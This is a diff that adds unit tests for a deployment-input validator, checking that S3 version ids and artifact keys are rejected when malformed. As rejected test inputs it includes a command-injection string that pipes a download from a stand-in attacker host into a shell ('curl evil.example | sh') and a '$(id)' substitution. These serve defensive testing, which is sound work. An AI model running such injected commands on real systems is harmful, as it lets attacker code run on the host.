@@ -60,4 +60,50 @@ describe('the execution input', () => {
     );
     expect(readDeployment({ ...input, extra: 1 }).app).toBe('web');
   });
+
+  it.each([
+    ['a single quote', "v1'; curl evil.example | sh; '"],
+    ['a space', 'v1 v2'],
+    ['a newline', 'v1\nv2'],
+    ['a dollar sign', '$(id)'],
+    ['nothing', ''],
+  ])('refuses a version id with %s: it goes into the bake download command', (_what, versionId) => {
+    expect(() => readDeployment({ ...input, artifact: { ...input.artifact, versionId } }, true)).toThrow(
+      'artifact.versionId: must be an S3 version id: 1-1024 letters, digits, . _ - + / =',
+    );
+  });
+
+  it.each([
+    'null',
+    '3HL4kqtJlcpXroDTDmJ+rmSpXd3dIbrHY+MTRCxf3vjVBH40Nrjfkd',
+    'UIORUnfndfhnw89493jJFJ.Ihn2',
+    'a/b=c_d-e',
+  ])('takes the version id %s as S3 writes them', (versionId) => {
+    expect(
+      readDeployment({ ...input, artifact: { ...input.artifact, versionId } }, true).artifact.versionId,
+    ).toBe(versionId);
+  });
+
+  it.each([
+    ['another app', { app: 'api' }],
+    ['another env', { env: 'staging' }],
+    ['another version', { version: '1.2.0' }],
+    ['another format', { format: 'tar.gz' }],
+  ])('refuses a key that names %s than the input says', (_what, change) => {
+    expect(() => readDeployment({ ...input, ...change }, true)).toThrow(
+      'execution input is invalid: artifact.key: must be releases/<app>/<env>/<version>.<format> with the app, env, version and format given',
+    );
+  });
+
+  it('refuses a key outside releases/ even where the input need not be exact', () => {
+    expect(() =>
+      readDeployment({ ...input, artifact: { ...input.artifact, key: "releases/web/prod/1.1.0.zip' x" } }),
+    ).toThrow(/artifact\.key: must be releases\//);
+  });
+
+  it('names a mismatched key together with the other broken fields', () => {
+    expect(() => readDeployment({ ...input, version: '1.2.0', uploadedAt: 'yesterday' }, true)).toThrow(
+      /uploadedAt: .*; artifact\.key: must be releases/,
+    );
+  });
 });
